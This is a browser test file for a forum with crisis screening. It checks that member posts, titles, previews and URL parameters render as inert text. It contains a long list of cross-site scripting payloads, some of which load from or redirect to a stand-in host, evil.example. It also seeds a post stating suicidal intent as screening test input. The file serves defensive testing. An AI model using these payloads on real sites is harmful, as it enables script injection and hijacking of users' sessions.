import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { screenTasks } from '#app/domain/crisis-response/screen-tasks.server.ts';
import { reportPost } from '#app/domain/moderation/report-post.server.ts';
import type { GroupId, PostId, ThreadId } from '#app/domain/shared/ids.ts';
import { defaultLexicon } from '#app/screening/default-lexicon.ts';
import { screen } from '#app/screening/screen.ts';
import { launchBrowser } from '#tests/support/browser.ts';
import { addActor } from '#tests/support/community.ts';
import { quietLog } from '#tests/support/crisis.ts';
import { testDatabase } from '#tests/support/database.ts';
import { aGroup, aReply, aThread, belongsTo, forumDeps } from '#tests/support/groups.ts';
import { startWeb, type RunningWeb } from '#tests/support/processes.ts';
import { signInAt } from '#tests/support/visits.ts';

const database = testDatabase({ keepBetweenTests: true });
const { db } = database;
const deps = forumDeps(db);
let web: RunningWeb;
let browser: Browser;

/** Each would call `ran()`, leave the page or ask another site, if it were taken for more than words. */
const HOSTILE = [
  '<script>ran()</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
  '</script><script>ran()</script>',
  '</textarea><script>ran()</script>',
  '</title><script>ran()</script>',
  '</noscript><img src=x onerror=ran()>',
  '<img src=x onerror=ran()>',
  '<img src="https://evil.example/pixel.png">',
  '<svg onload=ran()></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><script>ran()</script></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>ran()</script></svg>#x">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>',
  '<template shadowrootmode=open><img src=x onerror=ran()></template>',
  '<details open ontoggle=ran()><summary>x</summary></details>',
  '<video autoplay oncanplay=ran()><source src="https://evil.example/v.mp4"></video>',
  '<audio src=x onerror=ran()>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="data:text/html,<script>ran()</script>"></object>',
  '<embed src="https://evil.example/e">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/s.css">',
  '<style>@import "https://evil.example/s.css"; body { display: none }</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/b.png)">0800 000</p>',
  '<a id=main name=ran class=skip href="javascript:ran()" autofocus onfocus=ran()>x</a>',
  '<form id=reply action="https://evil.example/"><input name=attributes></form>',
  '<input autofocus onfocus=ran()>',
  '<marquee onstart=ran()>x</marquee>',
  '<body onload=ran()>',
  '<x onclick=ran() tabindex=1 autofocus onfocus=ran()>x</x>',
  '[x](javascript:ran())',
  '[x](JaVa\tScRiPt:ran())',
  '[x](javascript&#58;ran())',
  '[x](&#x6A;avascript:ran())',
  '[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=)',
  '[x](vbscript:ran())',
  '[x](https://a.example/"onmouseover="ran())',
  '![x](https://evil.example/pixel.png)',
  '![x](x"onerror="ran())',
  '<https://a.example/"onmouseover="ran()>',
  '[x]: javascript:ran()\n\n[x]',
  '```html"><img src=x onerror=ran()>\nx\n```',
  '`</code><img src=x onerror=ran()>`',
  '> <img src=x onerror=ran()>',
  '{{constructor.constructor("ran()")()}} ${ran()} <%= ran() %>',
  '&lt;img src=x onerror=ran()&gt;',
  '\u2028</script><script>ran()//\u2029',
  '<!--><script>ran()</script>-->',
  '<![CDATA[><script>ran()</script>]]>',
  '<a href="https://a.example" target=_blank rel=opener ping="https://evil.example/">x</a>',
];
const TITLES = HOSTILE.filter((text) => !/[\n\u2028]/.test(text) && text.length < 100);

let groupId: GroupId;
let threadId: ThreadId;
let posts: PostId[] = [];

beforeAll(async () => {
  [web, browser] = await Promise.all([startWeb({ databaseUrl: database.url }), launchBrowser()]);
  groupId = await aGroup(db, 'members', '</script><img src=x onerror=ran()>');
  const author = await addActor(db, 'Pale Reed', {
    roles: ['responder'],
    moderates: [groupId],
  });
  const other = await addActor(db, 'Green Fern');
  for (const each of [author, other]) await belongsTo(db, groupId, each);
  for (const title of TITLES) await aThread(deps, author, groupId, { title, source: title });
  const first = await aThread(deps, author, groupId, {
    title: '</script><script>ran()</script>',
    source: `I am going to hang myself tonight. ${HOSTILE[0] ?? ''}`,
  });
  threadId = first.threadId;
  posts = [first.postId];
  for (const source of HOSTILE) posts.push((await aReply(deps, author, threadId, source)).postId);
  const note = '</script><img src=x onerror=ran()>';
  const reported = { postId: first.postId, reason: 'something_else', note } as const;
  await reportPost(deps, other, reported);
  const screenText = (text: string) => screen(text, defaultLexicon);
  await screenTasks({ db, log: quietLog, screenText }, deps.woken);
});
afterAll(async () => {
  await browser.close();
  await web.stop();
});

/** A member's browser in which everything that hostile words may bring about is noticed. */
async function watchfulPage(options: { withoutPolicy: boolean }) {
  const watched = await browser.newContext({
    baseURL: web.origin,
    bypassCSP: options.withoutPolicy,
  });
  watched.setDefaultTimeout(60_000);
  const happened: string[] = [];
  await watched.exposeFunction('ran', () => happened.push('a script ran'));
  await watched.route(
    (url) => url.origin !== web.origin,
    (route) => {
      happened.push(`asked ${route.request().url()}`);
      return route.abort();
    },
  );
  const page = await watched.newPage();
  page.on('dialog', (dialog) => {
    happened.push('a dialog opened');
    void dialog.dismiss();
  });
  await signInAt(page, '/account', 'Pale Reed');
  return { page, happened };
}

/** What words of members have brought into a page besides words, and how often their words were looked at. */
async function foreignParts(page: Page) {
  return page.evaluate(() => {
    const allowed = /^(P|STRONG|EM|S|CODE|PRE|BLOCKQUOTE|UL|OL|LI|H3|H4|H5|H6|BR|HR|A)$/;
    const bodies = [...document.querySelectorAll('.post-body')];
    const foreign = bodies
      .flatMap((body) => [...body.querySelectorAll('*')])
      .flatMap((element) => [
        ...(allowed.test(element.tagName) ? [] : [element.tagName]),
        ...[...element.attributes]
          .filter(({ name }) => !(element.tagName === 'A' && /^(href|rel)$/.test(name)))
          .filter(({ name }) => !(element.tagName === 'OL' && name === 'start'))
          .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
        ...(element instanceof HTMLAnchorElement &&
        element.hasAttribute('href') &&
        (!/^(https?|mailto|tel|sms):$/.test(element.protocol) ||
          element.rel !== 'noopener noreferrer nofollow ugc')
          ? [`A ${element.href} ${element.rel}`]
          : []),
      ]);
    return { foreign, looked: bodies.length };
  });
}

/** Touches everything that could wait for a touch. */
async function provoke(page: Page): Promise<void> {
  await page.evaluate(() => {
    for (const element of document.querySelectorAll('main *')) {
      for (const type of ['mouseover', 'focus', 'toggle', 'error', 'load']) {
        element.dispatchEvent(new Event(type));
      }
    }
    return new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0)));
  });
}

it('is noticed when it is more than words, so that the tests below can fail', async () => {
  const { page, happened } = await watchfulPage({ withoutPolicy: true });
  await page.goto('/about');
  await page.evaluate(() => {
    document.querySelector('main')?.insertAdjacentHTML('beforeend', '<img src=x onerror=ran()>');
  });
  await expect.poll(() => happened).toEqual(['a script ran']);
  await page.context().close();
});

describe.each([
  ['under the content policy', false],
  ['with the content policy switched off', true],
])('hostile words, %s', (_name, withoutPolicy) => {
  it('stay words on every page that shows them', async () => {
    const { page, happened } = await watchfulPage({ withoutPolicy });
    const alert = await db.selectFrom('alert').select('id').executeTakeFirstOrThrow();
    const item = await db
      .selectFrom('review_item')
      .select('id')
      .where('subject_id', '=', posts[0] ?? '')
      .executeTakeFirstOrThrow();
    let looked = 0;
    const pages = [
      ...Array.from({ length: 3 }, (_, n) => `/threads/${threadId}?after=${n * 20}`),
      `/threads/${threadId}?posted=1`,
      '/groups',
      `/groups/${groupId}`,
      `/groups/${groupId}/new`,
      `/posts/${posts[0] ?? ''}/edit`,
      `/posts/${posts[3] ?? ''}/edit`,
      `/posts/${posts[4] ?? ''}/edit`,
      `/on-call/alerts/${alert.id}`,
      '/moderation',
      `/moderation/items/${item.id}`,
      '/sign-in?to=%2F%22%3E%3Cscript%3Eran()%3C%2Fscript%3E',
      `/groups?q=${encodeURIComponent('"><script>ran()</script>')}`,
      `/threads/${encodeURIComponent('"><script>ran()</script>')}`,
    ];
    for (const path of pages) {
      await page.goto(path, { waitUntil: 'load' });
      await provoke(page);
      const parts = await foreignParts(page);
      expect(parts.foreign, path).toEqual([]);
      looked += parts.looked;
      expect(new URL(page.url()).origin).toBe(web.origin);
    }
    expect(looked).toBeGreaterThan(HOSTILE.length);
    expect(happened).toEqual([]);
    await page.context().close();
  });

  it('stay words in the preview and in the page that follows the form', async () => {
    const { page, happened } = await watchfulPage({ withoutPolicy });
    await page.goto(`/threads/${threadId}`);
    const all = HOSTILE.join('\n\n');
    await page.locator('textarea[name=source]').fill(all);
    await page.getByRole('button', { name: 'See how it looks' }).click();
    await page.locator('.composer-preview .post-body').waitFor();
    await provoke(page);
    expect((await foreignParts(page)).foreign).toEqual([]);
    expect(await page.locator('.composer-preview').textContent()).toContain('onerror=ran()');

    await page.getByRole('button', { name: 'Post reply' }).click();
    await page.waitForURL('**/threads/*posted=*');
    await page.getByText('Your reply is posted.').waitFor();
    await provoke(page);
    const parts = await foreignParts(page);
    expect(parts.foreign).toEqual([]);
    expect(parts.looked).toBeGreaterThan(0);
    const stored = await db
      .selectFrom('post_revision')
      .select('source')
      .orderBy('written_at', 'desc')
      .limit(1)
      .executeTakeFirstOrThrow();
    expect(stored.source).toBe(all);

    await page.locator('.post').last().getByRole('link', { name: 'Edit' }).click();
    await page.waitForURL('**/edit');
    expect(await page.locator('textarea[name=source]').inputValue()).toBe(all);
    expect(happened).toEqual([]);
    await page.context().close();
  });
});
